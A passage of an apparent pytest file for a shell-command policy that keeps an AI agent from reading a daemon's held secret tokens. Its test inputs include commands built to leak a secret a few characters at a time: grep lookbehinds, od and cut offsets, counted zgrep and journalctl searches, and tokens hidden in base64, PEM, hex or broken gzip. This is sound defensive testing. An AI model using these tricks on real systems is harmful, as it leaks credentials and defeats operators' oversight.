    from ongridd.secretset import REGISTRY, file_holds_secret

    for lead in range(40, 64):  # the break falls at every place in the copy
        blob = bytes(range(lead)) + f"user:{HELD}".encode() + b"\0" * 40
        subprocess.run(["base64"], input=blob, stdout=open(tmp_path / f"b{lead}.b64", "wb"), check=True)
        pem = base64.b64encode(blob).decode()
        (tmp_path / f"p{lead}.pem").write_bytes(
            "\r\n".join(["-----BEGIN DATA-----", *(pem[i:i + 64] for i in range(0, len(pem), 64)),
                         "-----END DATA-----", ""]).encode())
        hexed = blob.hex()
        (tmp_path / f"x{lead}.hex").write_text("\n".join(hexed[i:i + 60] for i in range(0, len(hexed), 60)) + "\n")
    (tmp_path / "plain.log").write_text("GET /healthz 200\nALICEtok\nen01 the rest\n" * 50)
    policy = PathPolicy.local(cwd=str(tmp_path))
    with REGISTRY.hold([HELD]):
        for lead in range(40, 64):
            for name in (f"b{lead}.b64", f"p{lead}.pem", f"x{lead}.hex"):
                assert file_holds_secret(str(tmp_path / name)) is True, name
        verdict = analyze("cat b50.b64", policy)
        assert verdict.kind == "refused" and "holds a secret Ongrid itself" in verdict.reason, verdict
        assert file_holds_secret(str(tmp_path / "plain.log")) is False  # pieces of it over lines: not the secret
        packed = bytearray(gzip.compress((tmp_path / "b50.b64").read_bytes()))
        packed[-8] ^= 0xFF  # a wrong CRC: unpacked without the checks, still searched without line breaks
        (tmp_path / "bad.gz").write_bytes(bytes(packed))
        assert file_holds_secret(str(tmp_path / "bad.gz")) is True


def test_a_gzip_member_in_another_format_leaves_the_file_unchecked(tmp_path):
    """gzip -dc unpacks an old-gzip, compress or pack member after a gzip member; the check cannot
    read those, so such a file is unchecked: read by position only while a secret is held."""
    import gzip

    from ongridd.secretset import REGISTRY, file_holds_secret

    second = bytearray(gzip.compress(f"token={HELD}\n".encode()))
    second[1] = 0x9E  # an old-gzip member (gzip -dc unpacks it)
    (tmp_path / "rot.log.gz").write_bytes(gzip.compress(b"hello ops\n") + bytes(second))
    policy = PathPolicy.local(cwd=str(tmp_path))
    with REGISTRY.hold([HELD]):
        assert file_holds_secret(str(tmp_path / "rot.log.gz")) is None
        for cmd in ("zgrep -c token=ALICE rot.log.gz", "zgrep -o -P 'token=.{7}' rot.log.gz"):
            verdict = analyze(cmd, policy)
            assert verdict.kind == "refused" and "could not be checked for" in verdict.reason, (cmd, verdict)
        assert analyze("zcat rot.log.gz", policy).kind == "read"  # whole lines: the value redacted whole


def test_searches_of_what_is_never_checked_are_refused_while_a_secret_is_held(tmp_path):
    """journalctl -g and pgrep -f match text no check has read (the journal, process command lines):
    a match or none, a count, would answer a question about a held secret."""
    import subprocess

    from ongridd.secretset import REGISTRY

    policy = PathPolicy.local(cwd=str(tmp_path))
    held = f"PGREPtoken{os.getpid()}x0123456789"  # this test's own: no other test's process carries it
    with REGISTRY.hold([held]):
        for cmd in ("journalctl -u bot -g 'bot1234[0-4]'", "journalctl --grep=x -q -o cat"):
            verdict = analyze(cmd, policy)
            assert verdict.kind == "refused" and "search_logs" in verdict.reason, (cmd, verdict)
        assert analyze("pgrep -c -f PGREP", policy).kind == "read"  # no process's command line holds it
        holder = subprocess.Popen(["sh", "-c", "sleep 30", f"bot{held}"])
        try:
            for _ in range(200):  # until it has exec'd: before, its command line is this process's
                if held.encode() in Path(f"/proc/{holder.pid}/cmdline").read_bytes():
                    break
                time.sleep(0.01)
            verdict = analyze("pgrep -c -f PGREP", policy)
            assert verdict.kind == "refused" and f"process {holder.pid}'s holds a secret" in verdict.reason, verdict
            assert analyze("pgrep -c sh", policy).kind == "read"  # the process name only
        finally:
            holder.kill()
            holder.wait()
    assert analyze("journalctl -u bot -g 'bot1234[0-4]'", policy).kind == "read"  # nothing held: nothing to tell


def test_search_logs_matches_a_line_holding_a_secret_as_it_is_shown():
    from ongrid_host.logs_lines import make_matcher

    from ongridd.secretset import REGISTRY

    line = f"POST https://api.example/bot{HELD}/getUpdates 200".encode()
    with REGISTRY.hold([HELD]):
        for pattern, regex in ((HELD[:9], False), ("bot" + HELD[:4] + "[A-Z]", True), ("ALICE", False)):
            assert make_matcher(pattern, regex=regex).line(line) is False, pattern  # no answer about it
        assert make_matcher("getUpdates 200", regex=False).line(line) is True  # the rest of the line still
    assert make_matcher("bot" + HELD[:4] + "[A-Z]", regex=True).line(line) is True


def test_a_recursive_search_leaves_out_what_grep_leaves_out(tmp_path):
    """grep -r is told to skip journal files and secret-named files: the walk does not look at them
    either, so a large journal in a log folder does not stop a search of its logs."""
    from ongridd.secretset import REGISTRY

    logs = tmp_path / "log"
    (logs / "journal" / "m1").mkdir(parents=True)
    _too_large_to_check(logs / "journal" / "m1" / "system.journal", "x")
    (logs / "syslog").write_text("Dec 7 ERROR disk full\n")
    (logs / ".env").write_text(f"TOKEN={HELD}\n")
    policy = PathPolicy.local(cwd=str(tmp_path))
    with REGISTRY.hold([HELD]):
        verdict = analyze("grep -r ERROR log", policy)
        assert verdict.kind == "read", verdict


def test_a_recursive_search_past_what_the_walk_checks_is_refused(tmp_path, monkeypatch):
    from ongrid_host import path_policy

    from ongridd.secretset import REGISTRY

    tree = tmp_path / "tree"
    (tree / "sub").mkdir(parents=True)
    for i in range(3):
        (tree / f"a{i}.log").write_text("x" * 1000)
    (tree / "sub" / "creds.conf").write_text(f"token={HELD}\n")
    policy = PathPolicy.local(cwd=str(tmp_path))
    monkeypatch.setattr(path_policy, "SECRET_WALK_BYTES", 3000)  # spent on the three logs before creds.conf
    with REGISTRY.hold([HELD]):
        verdict = analyze("grep -r -l -P 'token=.{9}' tree", policy)
        assert verdict.kind == "refused" and "holds more than" in verdict.reason, verdict
        monkeypatch.setattr(path_policy, "SECRET_WALK_BYTES", 1 << 30)
        monkeypatch.setattr(path_policy, "PRIVATE_WALK_MAX", 2)
        verdict = analyze("grep -r token tree", policy)
        # (as root the walk for private files, over the same entries, says so first)
        assert verdict.kind == "refused" and ("holds more than" in verdict.reason
                                              or "more than 2 entries to check" in verdict.reason), verdict


async def test_a_held_secret_is_not_read_7_characters_at_a_time_from_a_large_file(call, tmp_path):
    from ongridd.secretset import REGISTRY, redact

    _too_large_to_check(tmp_path / "big.log", f"POST https://api.example/bot{HELD}/getUpdates\n")
    with REGISTRY.hold([HELD]):
        for k in (0, 7, 14):
            cmd = f"grep -o -P '(?<=/bot.{{{k}}}).{{7}}' {tmp_path / 'big.log'}"
            with pytest.raises(ToolError) as info:
                await call("host_bash", {"cmd": cmd, "timeout_s": 20}, read_only=True)
            assert "depends on what it holds" in str(info.value), cmd
        # whole lines still come out (a tool result is redacted on its way to the model: the whole value)
        out = await call("host_bash", {"cmd": f"tail -n 1 {tmp_path / 'big.log'}", "timeout_s": 20}, read_only=True)
        assert out["stdout"].endswith("/getUpdates\n") and HELD not in redact(out["stdout"]), out["stdout"][-200:]


def test_a_command_for_review_that_names_a_file_holding_a_held_secret_is_refused(tmp_path):
    """A reviewer approved ``od -c -j 7 -N 7`` on a file holding the chat token, a call at a time: the
    reviewer is not told what a file holds, and no change needs the daemon's secrets printed. Such a
    command is refused before any review; the same command on another file goes to the reviewer."""
    from ongridd.secretset import REGISTRY

    (tmp_path / "leaky.conf").write_text(f"token: {HELD}\n")
    (tmp_path / "plain.conf").write_text("listen 80\n")
    policy = PathPolicy.local(cwd=str(tmp_path))
    with REGISTRY.hold([HELD]):
        for cmd in ("cut -c 11-17 leaky.conf", f"awk '{{print substr($2,1,7)}}' {tmp_path / 'leaky.conf'}",
                    "od -An -c -j 7 -N 7 leaky.conf", "cp leaky.conf /tmp/x"):
            verdict = analyze(cmd, policy)
            assert verdict.kind == "refused" and "holds a secret Ongrid itself" in verdict.reason, (cmd, verdict)
        assert analyze("od -An -c -N 5 plain.conf", policy).kind == "write"


@pytest.mark.parametrize(("cmd", "argv"), [
    ("lsof -i :6379", ("lsof", "-i:6379")), ("lsof -i tcp:80", ("lsof", "-itcp:80")),
    ("lsof -i @10.0.0.1:22", ("lsof", "-i@10.0.0.1:22")), ("lsof -i -n", ("lsof", "-i", "-n")),
    ("lsof -i :22 /var/log/syslog", ("lsof", "-i:22", "--", "/var/log/syslog")),
])
def test_an_address_after_lsof_i_stays_its_address(cmd, argv):
    # written apart, it was put after "--", where lsof took ":6379" for a file name and reported
    # nothing listening on a port that was
    assert analyze(cmd).argv == argv


async def test_lsof_i_port_finds_what_listens(call):
    import shutil
    import socket

    if shutil.which("lsof") is None:
        pytest.skip("lsof is not installed")
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        port = server.getsockname()[1]
        out = await call("host_bash", {"cmd": f"lsof -n -P -i :{port}"}, read_only=True)
    assert out["exit_code"] == 0 and f":{port} (LISTEN)" in out["stdout"], out
